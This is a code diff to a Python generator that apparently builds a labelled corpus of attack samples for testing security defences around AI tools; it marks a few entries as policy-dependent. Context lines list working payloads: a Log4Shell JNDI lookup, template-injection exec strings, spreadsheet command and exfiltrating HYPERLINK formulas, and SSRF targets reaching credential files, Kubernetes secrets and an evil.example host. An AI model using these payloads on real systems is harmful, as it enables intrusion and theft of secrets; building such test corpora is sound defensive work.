@@ -269,7 +269,7 @@ ${${lower:j}ndi:${lower:l}dap://<host>/b}
 {{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('<cmd>')}}
 @(1+2)@{System.Diagnostics.Process.Start("<cmd>");}
 =cmd|'/C <cmd>'!A0
-=HYPERLINK("http://<host>/?x="&A1,"click")
+? =HYPERLINK("http://<host>/?x="&A1,"click")
 """)
 TEMPLATE_WORDS = {
     "n": ["7", "1337", "99", "12"],
@@ -402,7 +402,7 @@ http://[::1]:10250/pods
 http://2130706433:2379/v2/keys
 http://0x7f.1:5984/_all_dbs
 http://kubernetes.default.svc/api/v1/secrets
-http://localtest.me:4040/api
+? http://localtest.me:4040/api
 gopher://127.0.0.1:6379/_SET%20<role>%201
 dict://127.0.0.1:11211/stats
 file:///etc/passwd
@@ -411,7 +411,7 @@ ftp://127.0.0.1/
 ldap://127.0.0.1:389/
 http://evil.example@127.0.0.1:8500/
 http://127.0.0.1.nip.io:5000/v2/_catalog
-http://user:pass@10.0.0.5:9000/admin
+? http://user:pass@10.0.0.5:9000/admin
 jar:http://evil.example/a.zip!/<role>
 netdoc:///etc/shadow
 """)
@@ -445,7 +445,14 @@ def build() -> Corpus:
 
     def add(count: int, category: str, tags: str, kind: str, source: str, make: object) -> None:
         assert callable(make)
-        corpus.fill(count, lambda: corpus.attack(category, source, carried(rng, kind, make()), tags))
+
+        def one() -> bool:
+            value = make()
+            # What people also do on purpose, with hosts or sheets of their own, has no truth without a policy.
+            meta = {"policy_dependent": True} if value.startswith("? ") else {}
+            return corpus.attack(category, source, carried(rng, kind, value.removeprefix("? ")), tags, **meta)
+
+        corpus.fill(count, one)
 
     traversal = "owasp:MCP05 atlas:AML.T0049 safe:T1105 cwe:22 traversal"
     add(260, "path-traversal", traversal, "path", "climbing", lambda: climbing(rng))
@@ -505,7 +512,9 @@ def build() -> Corpus:
 
 def _rendered(rng: random.Random) -> str:
     before = rng.choice(["", "", "Hello ", "Dear ", "name: ", "total "])
-    return before + filled(rng, rng.choice(TEMPLATES), TEMPLATE_WORDS)
+    template = filled(rng, rng.choice(TEMPLATES), TEMPLATE_WORDS)
+    # A cell is a formula only where nothing stands before it.
+    return template if template.startswith(("=", "? =")) else before + template
 
 
 def _nested(corpus: Corpus) -> None:
